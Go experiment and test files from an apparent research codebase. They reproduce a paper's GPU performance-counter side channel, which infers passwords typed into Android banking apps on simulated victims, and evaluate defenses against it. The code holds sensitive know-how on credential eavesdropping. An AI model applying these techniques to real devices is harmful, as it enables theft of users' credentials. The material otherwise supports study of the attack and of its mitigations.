	res.Metrics["foreign_keys"] = float64(len(r.Keys) - (5 - stats.Levenshtein(r.Text, "user1")))
	return res, nil
}

// RunFig14 reproduces Figure 14: the PERF_LRZ_VISIBLE_PRIM_AFTER_LRZ
// counter increases by exactly 2 per typed character and decreases by 2
// per deletion, while cursor blinks are recognizable by their strict
// 0.5 s period.
func RunFig14(o Options) (*Result, error) {
	res := newResult("fig14", "Figure 14 / §5.3: input length tracking via echo redraws",
		"event", "echo prim delta", "step")

	comp := android.NewCompositor(android.OnePlus8Pro, android.FHDPlus, 60,
		android.Chase, keyboard.GBoard)

	// 3 letter inputs followed by 2 deletions, as in the figure.
	seq := []int{1, 2, 3, 2, 1}
	labels := []string{"input#1", "input#2", "input#3", "delete#1", "delete#2"}
	prev := -1.0
	okSteps := 0
	for i, n := range seq {
		st := comp.EchoStats(n, false)
		v := float64(st.VisiblePrimAfterLRZ)
		step := ""
		if prev >= 0 {
			diff := v - prev
			step = fmt.Sprintf("%+.0f", diff)
			want := 2.0
			if i >= 3 {
				want = -2.0
			}
			if diff == want {
				okSteps++
			}
		}
		res.Table.AddRow(labels[i], fmt.Sprintf("%.0f", v), step)
		prev = v
	}
	res.Metrics["correct_steps"] = float64(okSteps)
	res.Metrics["want_steps"] = 4

	// Cursor blink periodicity: blink frames land on the 0.5 s grid.
	cfg := DefaultConfig()
	cfg.Seed = o.Seed + 14
	cfg.NotifPerMinute = -1
	sess := victim.New(cfg)
	sess.Run(input.Script{})
	blinkOnGrid := 0
	blinks := 0
	for _, fr := range sess.GPU.Frames() {
		if fr.Stats.VisiblePixelAfterLRZ < 3000 && fr.Stats.VisiblePixelAfterLRZ > 0 {
			blinks++
			phase := (fr.Start - sess.LaunchAt) % (500 * sim.Millisecond)
			if phase < 20*sim.Millisecond || phase > 480*sim.Millisecond {
				blinkOnGrid++
			}
		}
	}
	res.Metrics["blinks"] = float64(blinks)
	res.Metrics["blinks_on_grid"] = float64(blinkOnGrid)
	return res, nil
}
