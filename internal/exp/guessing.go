package exp

import (
	"fmt"

	"gpuleak/internal/attack"
	"gpuleak/internal/input"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
	"gpuleak/internal/victim"
)

// RunGuessing quantifies §7.1's remark that "such single errors in
// inference could be addressed with a small number of guesses": accuracy
// at k guesses, where candidates substitute runner-up keys at the
// least-confident positions first.
func RunGuessing(o Options) (*Result, error) {
	res := newResult("guessing", "§7.1: credential recovery with k guesses",
		"k", "accuracy@k")

	cfg := DefaultConfig()
	m, err := TrainModel(cfg)
	if err != nil {
		return nil, err
	}
	per := o.Trials(300)
	rng := sim.NewRand(o.Seed + 71)

	ks := []int{1, 2, 5, 10, 20, 50}
	hits := make([]int, len(ks))
	for si := 0; si < per; si++ {
		text := input.RandomText(rng, LowerDigits, 12)
		seed := o.Seed + int64(si)*607
		c := cfg
		c.Seed = seed
		sess := victim.New(c)
		sess.Run(input.Typing(text, input.Volunteers[si%5], input.SpeedAny,
			sim.NewRand(seed^0xAB), 700*sim.Millisecond))
		f, err := sess.Open()
		if err != nil {
			return nil, err
		}
		r, err := attack.New(m).Eavesdrop(f, 0, sess.End)
		if err != nil {
			return nil, err
		}
		rank := attack.GuessRank(r.Keys, sess.TypedText(), ks[len(ks)-1])
		for ki, k := range ks {
			if rank > 0 && rank <= k {
				hits[ki]++
			}
		}
	}
	for ki, k := range ks {
		acc := float64(hits[ki]) / float64(per)
		res.Table.AddRow(fmt.Sprintf("%d", k), stats.Pct(acc))
		res.Metrics[fmt.Sprintf("acc@%d", k)] = acc
	}
	return res, nil
}
