package exp

import (
	"gpuleak/internal/android"
	"gpuleak/internal/attack"
	"gpuleak/internal/input"
	"gpuleak/internal/parallel"
	"gpuleak/internal/stats"
)

// RunTransfer justifies the paper's §3.2 design decision to build "a
// separate classification model for each device model and configuration":
// a classifier trained on one device is applied to every other device.
// On-diagonal accuracy is high; off-diagonal accuracy collapses, because
// per-key deltas depend on resolution, tile alignment and GPU scaling.
func RunTransfer(o Options) (*Result, error) {
	res := newResult("transfer", "§3.2: cross-device model transfer (train row, attack column)",
		"train \\ attack", "Pixel 2", "OnePlus 8 Pro", "OnePlus 9")

	devices := []android.DeviceModel{android.Pixel2, android.OnePlus8Pro, android.OnePlus9}
	per := o.Trials(60)

	models, err := parallel.Map(o.Workers, len(devices), func(i int) (*attack.Model, error) {
		cfg := DefaultConfig()
		cfg.Device = devices[i]
		return TrainModelWorkers(cfg, o.Workers)
	})
	if err != nil {
		return nil, err
	}

	// The full train × attack matrix is independent cell-wise.
	n := len(devices)
	accs, err := parallel.Map(o.Workers, n*n, func(i int) (float64, error) {
		ti, ai := i/n, i%n
		cfg := DefaultConfig()
		cfg.Device = devices[ai]
		b, err := RunBatch(o, cfg, models[ti], LowerDigits, 10, per,
			input.Volunteers[(ti+ai)%5], input.SpeedAny, attack.DefaultInterval,
			attack.OnlineOptions{}, o.Seed+int64(ti)*7753+int64(ai)*131)
		if err != nil {
			return 0, err
		}
		return b.CharAccuracy(), nil
	})
	if err != nil {
		return nil, err
	}

	var diag, offdiag []float64
	for ti, trainDev := range devices {
		row := []string{trainDev.Name}
		for ai, attackDev := range devices {
			ca := accs[ti*n+ai]
			row = append(row, stats.Pct(ca))
			res.Metrics[trainDev.Name+"->"+attackDev.Name] = ca
			if ti == ai {
				diag = append(diag, ca)
			} else {
				offdiag = append(offdiag, ca)
			}
		}
		res.Table.AddRow(row...)
	}
	res.Metrics["diag_mean"] = stats.Mean(diag)
	res.Metrics["offdiag_mean"] = stats.Mean(offdiag)
	return res, nil
}
