package exp

// Tests of the arms tournament's contract: bit-identical reports at any
// worker count, a strong undefended baseline, per-defense monotonicity
// of the strength sweep, and at least one worthwhile frontier point
// (large accuracy drop at small overhead) — the claim EXPERIMENTS.md
// and the ci.sh smoke gate both rest on.

import (
	"bytes"
	"encoding/json"
	"testing"
)

// armsTestReport runs the tournament at the smoke configuration (seed 1,
// 3 trials, 8-char credentials, the default defense set and strength
// grid) — the same cell ci.sh replays.
func armsTestReport(t *testing.T, workers int) *ArmsReport {
	t.Helper()
	rep, err := RunArmsTournament(Options{Seed: 1, Workers: workers}, nil, nil, 3, 8)
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

func TestArmsTournamentBitIdenticalAcrossWorkers(t *testing.T) {
	marshal := func(rep *ArmsReport) []byte {
		b, err := json.Marshal(rep)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	serial := marshal(armsTestReport(t, 1))
	fanned := marshal(armsTestReport(t, 8))
	if !bytes.Equal(serial, fanned) {
		t.Errorf("tournament reports differ across worker counts:\nworkers=1: %s\nworkers=8: %s", serial, fanned)
	}
}

func TestArmsFrontierShape(t *testing.T) {
	rep := armsTestReport(t, 0)
	if rep.Schema != ArmsSchema {
		t.Fatalf("schema %q, want %q", rep.Schema, ArmsSchema)
	}
	if rep.Baseline.CharAcc < 0.5 {
		t.Fatalf("undefended fused baseline char accuracy %.3f: the attack must work before defenses can be measured", rep.Baseline.CharAcc)
	}
	if len(rep.Defenses) < 4 {
		t.Fatalf("only %d defenses swept, the registry holds at least 4", len(rep.Defenses))
	}

	// Each defense's sweep must be monotone: more strength never buys the
	// attacker accuracy back. The grid replays identical victim sessions
	// across cells, so this is a property of the defenses, not sampling.
	for _, d := range rep.Defenses {
		if len(d.Points) != len(rep.Strengths) {
			t.Errorf("%s: %d points for %d strengths", d.Defense, len(d.Points), len(rep.Strengths))
			continue
		}
		for i := 1; i < len(d.Points); i++ {
			if d.Points[i].CharAcc > d.Points[i-1].CharAcc {
				t.Errorf("%s: char accuracy rose from %.3f (s=%v) to %.3f (s=%v): strength sweep must be monotone",
					d.Defense, d.Points[i-1].CharAcc, d.Points[i-1].Strength,
					d.Points[i].CharAcc, d.Points[i].Strength)
			}
		}
		for _, pt := range d.Points {
			if pt.Overhead < 0 || pt.Overhead > 1 {
				t.Errorf("%s s=%v: overhead %v outside [0,1]", d.Defense, pt.Strength, pt.Overhead)
			}
		}
	}

	// The frontier must contain a worthwhile defense: a ≥0.30 fused
	// accuracy drop at ≤0.10 platform overhead.
	worthwhile := false
	for _, d := range rep.Defenses {
		for _, pt := range d.Points {
			if pt.Drop >= 0.30 && pt.Overhead <= 0.10 {
				worthwhile = true
			}
		}
	}
	if !worthwhile {
		t.Error("no frontier point drops fused char accuracy by >=0.30 at <=0.10 overhead")
	}
}
