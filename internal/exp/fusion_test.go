package exp

import "testing"

// TestFusionBeatsBestSingleChannel pins the channel plane's reason to
// exist: under the starve profile, decision-level fusion must measurably
// beat the best single channel, and it must never be worse than KGSL on
// any profile.
func TestFusionBeatsBestSingleChannel(t *testing.T) {
	res, err := RunFusion(Options{Quick: true, Seed: 20260705})
	if err != nil {
		t.Fatal(err)
	}
	win := res.Metric("fusion.win")
	if win <= 0.01 {
		t.Fatalf("fusion.win = %.4f; fusion must beat the best single channel by more than 1%% char accuracy on the starve profile", win)
	}
	for _, p := range []string{"none", "mild", "moderate", "severe", "starve"} {
		k := res.Metric("fusion.char_acc.kgsl." + p)
		f := res.Metric("fusion.char_acc.fused." + p)
		if f < k {
			t.Errorf("profile %s: fused char accuracy %.4f below kgsl %.4f — fusion must never hurt", p, f, k)
		}
	}
	t.Logf("fusion.win = %.4f", win)
}
