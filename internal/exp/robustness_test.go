package exp

import (
	"bytes"
	"encoding/json"
	"testing"

	"gpuleak/internal/fault"
)

// TestChaosReportDeterministicAcrossWorkers pins the replay contract the
// chaos harness exists to demonstrate: one seed, one report — bit for
// bit — no matter how the trials are scheduled across workers.
func TestChaosReportDeterministicAcrossWorkers(t *testing.T) {
	profiles := []fault.Profile{fault.None, fault.Moderate}
	run := func(workers int) []byte {
		rep, err := RunChaosProfiles(Options{Seed: 11, Workers: workers}, profiles, 3, 6)
		if err != nil {
			t.Fatalf("workers=%d: %v", workers, err)
		}
		raw, err := json.Marshal(rep)
		if err != nil {
			t.Fatal(err)
		}
		return raw
	}
	serial := run(1)
	parallel := run(8)
	if !bytes.Equal(serial, parallel) {
		t.Fatalf("chaos report differs across worker counts:\n%s\nvs\n%s", serial, parallel)
	}

	var rep ChaosReport
	if err := json.Unmarshal(serial, &rep); err != nil {
		t.Fatal(err)
	}
	if rep.Schema != ChaosSchema {
		t.Errorf("schema %q, want %q", rep.Schema, ChaosSchema)
	}
	if !rep.BaselineMatch {
		t.Error("none-profile trials diverged from the raw library path")
	}
	for _, pr := range rep.Profiles {
		if pr.Fatal != 0 {
			t.Errorf("profile %q: %d fatal trials under the default retry policy", pr.Profile, pr.Fatal)
		}
		if pr.Rate > 0 && pr.Injected.Total() == 0 {
			t.Errorf("profile %q injected nothing", pr.Profile)
		}
	}
}

// TestChaosAccuracyDegradesMonotonically is the robustness property the
// paper's pipeline should satisfy: harsher fault schedules cost accuracy
// gradually (degraded results, with gaps flagged), never availability.
// The predefined profiles are tuned to be fully absorbed, so this uses
// escalating tick-loss profiles harsh enough to actually lose key
// presses.
func TestChaosAccuracyDegradesMonotonically(t *testing.T) {
	profiles := []fault.Profile{
		{Name: "drop10", PDropTick: 0.10},
		{Name: "drop30", PDropTick: 0.30},
		{Name: "drop60", PDropTick: 0.60},
	}
	rep, err := RunChaosProfiles(Options{Seed: 3, Workers: 0}, profiles, 6, 8)
	if err != nil {
		t.Fatal(err)
	}

	// The accuracy ceiling is a clean run; the floor is losing more than
	// half the samples. Adjacent steps may tie on small trial counts, so
	// the property is non-strict per step and strict end to end.
	const tolerance = 0.05
	for i := 1; i < len(rep.Profiles); i++ {
		prev, cur := rep.Profiles[i-1], rep.Profiles[i]
		if cur.CharAccuracy > prev.CharAccuracy+tolerance {
			t.Errorf("char accuracy rose with severity: %s=%.3f -> %s=%.3f",
				prev.Profile, prev.CharAccuracy, cur.Profile, cur.CharAccuracy)
		}
	}
	first, last := rep.Profiles[0], rep.Profiles[len(rep.Profiles)-1]
	if last.CharAccuracy >= first.CharAccuracy {
		t.Errorf("dropping 60%% of ticks (%.3f) did not degrade accuracy below 10%% loss (%.3f)",
			last.CharAccuracy, first.CharAccuracy)
	}
	for _, pr := range rep.Profiles {
		if pr.Fatal != 0 {
			t.Errorf("profile %q: %d fatal trials — tick loss must degrade, not kill", pr.Profile, pr.Fatal)
		}
		if pr.Degraded != pr.Trials {
			t.Errorf("profile %q: only %d/%d trials flagged degraded", pr.Profile, pr.Degraded, pr.Trials)
		}
		if pr.Gaps+pr.Resyncs == 0 {
			t.Errorf("profile %q: heavy tick loss produced no engine gap verdicts", pr.Profile)
		}
	}
}
