package exp

import (
	"fmt"
	"time"

	"gpuleak/internal/android"
	"gpuleak/internal/attack"
	"gpuleak/internal/input"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
	"gpuleak/internal/victim"
)

// RunFig25 reproduces Figure 25: the attacker-side computing cost of
// inferring one key press. Paper: >95% of key presses are inferred within
// 0.1 ms. We measure the real wall-clock time of the classification the
// online engine performs per delta.
func RunFig25(o Options) (*Result, error) {
	res := newResult("fig25", "Figure 25: computing time per key press inference",
		"bucket (ms)", "count")

	cfg := DefaultConfig()
	m, err := TrainModel(cfg)
	if err != nil {
		return nil, err
	}

	// Build a pool of realistic popup deltas to classify.
	cfg.Seed = o.Seed + 25
	sess := victim.New(cfg)
	text := input.RandomText(sim.NewRand(o.Seed), LowerDigits, 24)
	sess.Run(input.Typing(text, input.Volunteers[0], input.SpeedAny, sim.NewRand(o.Seed+1), 700*sim.Millisecond))
	f, err := sess.Open()
	if err != nil {
		return nil, err
	}
	smp, err := attack.NewSampler(f, attack.DefaultInterval)
	if err != nil {
		return nil, err
	}
	tr, err := smp.Collect(0, sess.End)
	if err != nil {
		return nil, err
	}
	deltas := tr.Deltas()

	n := o.Trials(3300)
	times := make([]float64, 0, n)
	for i := 0; i < n; i++ {
		d := deltas[i%len(deltas)]
		start := time.Now() //gpuvet:ignore simtime -- Fig 25 measures the attacker's real computation cost
		_ = m.ClassifyDenoised(d.V)
		times = append(times, float64(time.Since(start).Nanoseconds())/1e6) //gpuvet:ignore simtime -- wall-clock span of the attacker's own classification
	}
	h := stats.NewHistogram(times, 15, 0, 0.15)
	for i, c := range h.Counts {
		lo := float64(i) * 0.01
		res.Table.AddRow(fmt.Sprintf("%.2f-%.2f", lo, lo+0.01), fmt.Sprintf("%d", c))
	}
	res.Metrics["frac_under_0.1ms"] = h.FractionBelow(0.1)
	res.Metrics["p95_ms"] = stats.Percentile(times, 95)
	res.Metrics["mean_ms"] = stats.Mean(times)
	return res, nil
}

// RunFig26 reproduces Figure 26: extra battery consumption over two hours
// of monitoring on four phones. Paper: at most ~4% after 2 h.
func RunFig26(o Options) (*Result, error) {
	res := newResult("fig26", "Figure 26: extra battery consumption of the attack",
		"device", "30min", "60min", "90min", "120min")

	devices := []android.DeviceModel{android.LGV30, android.OnePlus8Pro, android.Pixel2, android.OnePlus7Pro}
	pm := victim.DefaultPowerModel()
	maxPct := 0.0
	for _, dev := range devices {
		row := []string{dev.Name}
		for _, minutes := range []int{30, 60, 90, 120} {
			pct := pm.ExtraBatteryPercent(dev, attack.DefaultInterval, sim.Time(minutes)*sim.Minute)
			row = append(row, fmt.Sprintf("%.2f%%", pct))
			res.Metrics[fmt.Sprintf("%s_%dmin", dev.Name, minutes)] = pct
			if pct > maxPct {
				maxPct = pct
			}
		}
		res.Table.AddRow(row...)
	}
	res.Metrics["max_extra_pct_2h"] = maxPct
	_ = o
	return res, nil
}
