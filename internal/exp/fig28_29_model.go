package exp

import (
	"bytes"
	"fmt"

	"gpuleak/internal/android"
	"gpuleak/internal/attack"
	"gpuleak/internal/input"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
	"gpuleak/internal/victim"
)

// RunFig28 reproduces §8 (Figures 27/28): practical usage sessions where
// five volunteers type credentials while randomly correcting input,
// switching apps and glancing at notifications. Paper: average per-key
// accuracy 97.1%, average trace (final credential) accuracy 78.0%.
func RunFig28(o Options) (*Result, error) {
	res := newResult("fig28", "Figure 28: accuracy in practical usage sessions",
		"volunteer", "trace acc", "char acc", "corrections detected")

	per := o.Trials(10) // sessions per volunteer
	apps := []*android.App{android.Chase, android.Amex, android.Fidelity,
		android.Schwab, android.MyFICO, android.Experian}

	var traceAccs, charAccs []float64
	for vi, vol := range input.Volunteers {
		inferred := make([]string, 0, per)
		truths := make([]string, 0, per)
		corrections := 0
		for si := 0; si < per; si++ {
			cfg := DefaultConfig()
			cfg.App = apps[(vi*per+si)%len(apps)]
			m, err := TrainModel(cfg)
			if err != nil {
				return nil, err
			}
			seed := o.Seed + int64(vi)*70001 + int64(si)*733
			rng := sim.NewRand(seed)
			text := input.RandomText(rng, LowerDigits, 8+rng.Intn(9))
			cfg.Seed = seed
			sess := victim.New(cfg)
			script := input.Practical(text, vol, input.DefaultPracticalOptions(), rng, 700*sim.Millisecond)
			sess.Run(script)
			f, err := sess.Open()
			if err != nil {
				return nil, err
			}
			atk := attack.New(m)
			r, err := atk.Eavesdrop(f, 0, sess.End)
			if err != nil {
				return nil, err
			}
			inferred = append(inferred, r.Text)
			truths = append(truths, sess.TypedText())
			corrections += r.Stats.Corrections
		}
		ta := stats.TextAccuracy(inferred, truths)
		ca := stats.CharAccuracy(inferred, truths)
		res.Table.AddRow(input.Volunteers[vi].Name, stats.Pct(ta), stats.Pct(ca), fmt.Sprintf("%d", corrections))
		res.Metrics["trace_"+vol.Name] = ta
		res.Metrics["char_"+vol.Name] = ca
		traceAccs = append(traceAccs, ta)
		charAccs = append(charAccs, ca)
	}
	res.Metrics["avg_trace_acc"] = stats.Mean(traceAccs)
	res.Metrics["avg_char_acc"] = stats.Mean(charAccs)
	return res, nil
}

// RunFig29 reproduces the §9.3 obfuscation observations: the PNC app's
// decorative login animation drags eavesdropping accuracy down (paper:
// 30.2%), and OS-injected random GPU workloads degrade accuracy at a GPU
// cost that grows with the obfuscation amplitude.
func RunFig29(o Options) (*Result, error) {
	res := newResult("fig29", "§9.3: obfuscation mitigations",
		"mitigation", "text acc", "char acc", "note")

	per := o.Trials(100)

	// Baseline: Chase (no animation).
	base := DefaultConfig()
	mBase, err := TrainModel(base)
	if err != nil {
		return nil, err
	}
	bb, err := RunBatch(o, base, mBase, LowerDigits, 10, per, input.Volunteers[0],
		input.SpeedAny, attack.DefaultInterval, attack.OnlineOptions{}, o.Seed+291)
	if err != nil {
		return nil, err
	}
	res.Table.AddRow("none (Chase)", stats.Pct(bb.TextAccuracy()), stats.Pct(bb.CharAccuracy()), "")
	res.Metrics["baseline_text"] = bb.TextAccuracy()

	// PNC: decorative login animation. The attacker trains on PNC too —
	// the animation still interferes because its frames continuously
	// perturb the counters.
	pnc := DefaultConfig()
	pnc.App = android.PNC
	mPNC, err := TrainModel(pnc)
	if err != nil {
		return nil, err
	}
	pb, err := RunBatch(o, pnc, mPNC, LowerDigits, 10, per, input.Volunteers[1],
		input.SpeedAny, attack.DefaultInterval, attack.OnlineOptions{}, o.Seed+292)
	if err != nil {
		return nil, err
	}
	res.Table.AddRow("PNC login animation", stats.Pct(pb.TextAccuracy()), stats.Pct(pb.CharAccuracy()), "app-side")
	res.Metrics["pnc_text"] = pb.TextAccuracy()
	res.Metrics["pnc_char"] = pb.CharAccuracy()
	return res, nil
}

// RunModelSize reproduces the §7.6 storage accounting: the size of one
// serialized classification model and the footprint of a 3,000-model
// bundle (100 phones x 15 keyboards x 2 resolutions). Paper: 3.59 kB per
// model, at most 13.40 MB total.
func RunModelSize(o Options) (*Result, error) {
	res := newResult("modelsize", "§7.6: classification model storage",
		"quantity", "value")

	m, err := TrainModel(DefaultConfig())
	if err != nil {
		return nil, err
	}
	var buf bytes.Buffer
	if err := m.WriteJSON(&buf); err != nil {
		return nil, err
	}
	one := buf.Len()
	total3000 := float64(one) * 3000 / (1 << 20)
	res.Table.AddRow("one model", fmt.Sprintf("%d bytes", one))
	res.Table.AddRow("3000 models", fmt.Sprintf("%.2f MB", total3000))
	res.Metrics["model_bytes"] = float64(one)
	res.Metrics["bundle_mb"] = total3000
	_ = o
	return res, nil
}
