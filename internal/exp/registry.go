package exp

import (
	"errors"
	"fmt"
)

// ErrUnknownExperiment reports an experiment ID absent from the registry.
// Match with errors.Is; errors returned by Run wrap it together with the
// offending ID.
var ErrUnknownExperiment = errors.New("exp: unknown experiment")

// Runner executes one experiment.
type Runner func(Options) (*Result, error)

// Experiment couples a paper artifact with its regenerator.
type Experiment struct {
	ID    string
	Paper string // what the paper reports
	Run   Runner
}

// All lists every reproducible table and figure, in paper order, followed
// by the ablations.
var All = []Experiment{
	{"fig5", "per-key PC deltas are unique and repeatable; idle counters are flat", RunFig5},
	{"fig6", "per-key clusters separate in counter space", RunFig6},
	{"fig11", "of 3485 presses: 633 duplication, 316 split, 21 noise (~28% affected)", RunFig11},
	{"fig12", "learned noise signatures never classify as key presses", RunFig12},
	{"fig13", "app switches produce <50ms bursts; detection gates eavesdropping", RunFig13},
	{"fig14", "echo redraws step the LRZ prim counter by exactly +/-2 per character", RunFig14},
	{"fig16", "volunteer typing durations/intervals are heterogeneous", RunFig16},
	{"fig17", "text accuracy >75% for lengths 8-16 (avg 81.3%); per-key 98.3%", RunFig17},
	{"fig18", "per-key accuracy; errors concentrate on a few keys", RunFig18},
	{"table2", "prior work on desktop workload counters: 8.7-14.2%", RunTable2},
	{"fig19", "all nine target apps above ~80% accuracy", RunFig19},
	{"fig20", "six keyboards within a few percent of each other", RunFig20},
	{"fig21", "slow typing lowers text accuracy; per-key accuracy flat; errors <1.3", RunFig21},
	{"fig22", "CPU<50%/GPU<25% negligible; 75% load drops accuracy toward 60%", RunFig22},
	{"fig23", "12ms sampling costs ~20% text accuracy; 120Hz needs 4ms", RunFig23},
	{"fig24", "similar accuracy across GPUs, resolutions, models, OS versions", RunFig24},
	{"fig25", ">95% of inferences within 0.1ms", RunFig25},
	{"fig26", "at most ~4% extra battery after 2h", RunFig26},
	{"fig27", "practical sessions interleave typing with corrections, switches, glances", RunFig27},
	{"fig28", "practical sessions: per-key 97.1%, trace 78.0%", RunFig28},
	{"fig29", "PNC login animation drops accuracy to ~30%", RunFig29},
	{"modelsize", "one model ~3.59kB; 3000 models <= 13.4MB", RunModelSize},
	{"sec9", "defense matrix: popup disabling leaks length; RBAC blocks; obfuscation trades GPU cost", RunSec9Defenses},
	{"guessing", "single errors are fixable with a small number of guesses (§7.1)", RunGuessing},
	{"transfer", "cross-device model transfer collapses: why §3.2 trains per configuration", RunTransfer},
	{"ablation-dedup", "Ti=75ms balances duplication suppression vs fast typing", RunAblationDedup},
	{"ablation-split", "split combining recovers fragmented key presses", RunAblationSplit},
	{"ablation-threshold", "Cth trades rejected presses vs admitted noise", RunAblationThreshold},
	{"ablation-counters", "counter groups differ sharply; LRZ carries the most signal", RunAblationCounterSet},
	{"ablation-corrections", "correction tracking recovers backspaced credentials", RunAblationCorrections},
	{"ablation-greedy", "whole-trace segmentation trades timeliness for accuracy (§5.1)", RunAblationGreedyVsOffline},
	{"chaos", "injected device faults degrade accuracy monotonically, never availability", RunChaos},
	{"fusion", "multi-channel fusion beats the best single channel under CPU starvation", RunFusion},
	{"arms", "defense frontier: composable defenses trade attacker accuracy against platform overhead", RunArms},
}

// ByID finds an experiment.
func ByID(id string) (Experiment, bool) {
	for _, e := range All {
		if e.ID == id {
			return e, true
		}
	}
	return Experiment{}, false
}

// Run looks an experiment up by ID and executes it, returning an error
// wrapping ErrUnknownExperiment for IDs absent from the registry.
func Run(id string, o Options) (*Result, error) {
	e, ok := ByID(id)
	if !ok {
		return nil, fmt.Errorf("%w: %q", ErrUnknownExperiment, id)
	}
	return e.Run(o)
}
