package exp

import (
	"fmt"

	"gpuleak/internal/attack"
	"gpuleak/internal/channel"
	"gpuleak/internal/fault"
	"gpuleak/internal/input"
	"gpuleak/internal/parallel"
	"gpuleak/internal/proccount"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
	"gpuleak/internal/victim"
)

// The fusion experiment quantifies the channel plane's headline claim:
// a coarse OS-counter channel that cannot compete with KGSL on its own
// still buys accuracy when the KGSL sampler is being starved, because
// the two channels fail independently. Each trial eavesdrops one victim
// session three ways — KGSL alone (through a fault plane), proccount
// alone (unwrapped: /proc reads do not cross the KGSL ioctl path the
// profiles model), and decision-level fusion of the two — under every
// predefined fault profile.

// fusionTrial is one (profile, trial) outcome across the three readers.
type fusionTrial struct {
	kgsl, proc, fused, truth string
	recovered, flipped       int
	fatal                    bool
}

// fusionOnce runs one session through all three readers.
func fusionOnce(o Options, cfg victim.Config, pm, sm *attack.Model, sch channel.Channel,
	text string, p fault.Profile, faultSeed, seed int64) (fusionTrial, error) {

	c := cfg
	c.Seed = seed
	sess := victim.New(c)
	sess.Run(input.Typing(text, input.Volunteers[0], input.SpeedAny,
		sim.NewRand(seed^0x5DEECE66D), 700*sim.Millisecond))
	out := fusionTrial{truth: sess.TypedText()}

	// Primary: KGSL through the fault plane, retry policy armed.
	f, err := sess.Open()
	if err != nil {
		return out, err
	}
	ff := fault.NewFile(f, p, faultSeed)
	pa := &attack.Attack{Models: []*attack.Model{pm}, Interval: attack.DefaultInterval,
		Retry: attack.DefaultRetryPolicy()}
	ps, err := attack.NewSamplerRetry(ff, attack.DefaultInterval, pa.Retry)
	if err != nil {
		out.fatal = true
		return out, nil
	}
	ptr, err := ps.CollectContext(o.Context(), 0, sess.End)
	if err != nil {
		if o.Context().Err() != nil {
			return out, err
		}
		out.fatal = true
		return out, nil
	}
	pres, err := pa.EavesdropTrace(ptr)
	if err != nil {
		return out, err
	}
	out.kgsl = pres.Text

	// Secondary: the OS-counter channel, no fault plane.
	sf, err := sch.Open(sess)
	if err != nil {
		return out, err
	}
	sa := &attack.Attack{Models: []*attack.Model{sm}, Interval: sch.Interval(),
		Errors: sch.Taxonomy()}
	ss, err := attack.NewSamplerTaxonomy(sf, sch.Interval(), attack.RetryPolicy{}, sch.Taxonomy())
	if err != nil {
		return out, err
	}
	str, err := ss.CollectContext(o.Context(), 0, sess.End)
	if err != nil {
		return out, err
	}
	sres, err := sa.EavesdropTrace(str)
	if err != nil {
		return out, err
	}
	out.proc = sres.Text

	fr := attack.Fuse(pm, ptr.Deltas(), pres, sm, sres, attack.DefaultInterval, attack.FusionOptions{})
	out.fused = fr.Fused.Text
	out.recovered = fr.Recovered
	out.flipped = fr.Flipped
	return out, nil
}

// RunFusion is the registry entry point: per fault profile, per-channel
// and fused accuracy. The fusion.win metric is the char-accuracy margin
// of fusion over the best single channel on the starve profile — the
// scenario the channel plane exists for — and CI gates on it staying
// positive.
func RunFusion(o Options) (*Result, error) {
	cfg := DefaultConfig()
	pm, err := TrainModelChannel(cfg, o.Workers, "")
	if err != nil {
		return nil, err
	}
	sm, err := TrainModelChannel(cfg, o.Workers, proccount.Name)
	if err != nil {
		return nil, err
	}
	sch, err := channel.Get(proccount.Name)
	if err != nil {
		return nil, err
	}

	profiles := fault.Profiles()
	trials := o.Trials(40)
	textLen := 8

	rng := sim.NewRand(o.Seed)
	texts := make([]string, trials)
	for i := range texts {
		texts[i] = input.RandomText(rng, LowerDigits, textLen)
	}

	n := len(profiles) * trials
	slots := make([]fusionTrial, n)
	err = parallel.ForEachCtx(o.Context(), o.Workers, n, func(i int) error {
		pIdx, trial := i/trials, i%trials
		t, err := fusionOnce(o, cfg, pm, sm, sch, texts[trial], profiles[pIdx],
			fault.Seed(o.Seed, i), o.Seed+int64(trial)*101)
		if err != nil {
			return err
		}
		slots[i] = t
		return nil
	})
	if err != nil {
		return nil, err
	}

	res := newResult("fusion", "Multi-channel fusion vs single channels under faults",
		"profile", "kgsl char", "proc char", "fused char", "kgsl text", "fused text", "recovered", "flipped")
	var win float64
	for pIdx, p := range profiles {
		var kgsl, proc, fused, truth []string
		recovered, flipped := 0, 0
		for trial := 0; trial < trials; trial++ {
			t := slots[pIdx*trials+trial]
			kgsl = append(kgsl, t.kgsl)
			proc = append(proc, t.proc)
			fused = append(fused, t.fused)
			truth = append(truth, t.truth)
			recovered += t.recovered
			flipped += t.flipped
		}
		kc := stats.CharAccuracy(kgsl, truth)
		pc := stats.CharAccuracy(proc, truth)
		fc := stats.CharAccuracy(fused, truth)
		kt := stats.TextAccuracy(kgsl, truth)
		ft := stats.TextAccuracy(fused, truth)
		res.Table.AddRow(p.Name,
			fmt.Sprintf("%.1f%%", 100*kc),
			fmt.Sprintf("%.1f%%", 100*pc),
			fmt.Sprintf("%.1f%%", 100*fc),
			fmt.Sprintf("%.1f%%", 100*kt),
			fmt.Sprintf("%.1f%%", 100*ft),
			fmt.Sprintf("%d", recovered),
			fmt.Sprintf("%d", flipped))
		res.Metrics["fusion.char_acc.kgsl."+p.Name] = kc
		res.Metrics["fusion.char_acc.proccount."+p.Name] = pc
		res.Metrics["fusion.char_acc.fused."+p.Name] = fc
		res.Metrics["fusion.text_acc.kgsl."+p.Name] = kt
		res.Metrics["fusion.text_acc.fused."+p.Name] = ft
		if p.Name == fault.Starve.Name {
			best := kc
			if pc > best {
				best = pc
			}
			win = fc - best
		}
	}
	res.Metrics["fusion.win"] = win
	return res, nil
}
