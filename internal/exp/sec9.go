package exp

import (
	"fmt"

	"gpuleak/internal/attack"
	"gpuleak/internal/input"
	"gpuleak/internal/mitigate"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
	"gpuleak/internal/victim"
)

// RunSec9Defenses reproduces the paper's §9 defense discussion as one
// matrix: each defense's effect on credential recovery, the residual
// input-length leak the paper highlights for popup disabling (§9.1), and
// the GPU cost of the §9.3 obfuscation amplitudes.
func RunSec9Defenses(o Options) (*Result, error) {
	res := newResult("sec9", "§9: defense matrix",
		"defense", "text acc", "char acc", "length leak", "note")

	base := DefaultConfig()
	m, err := TrainModel(base)
	if err != nil {
		return nil, err
	}
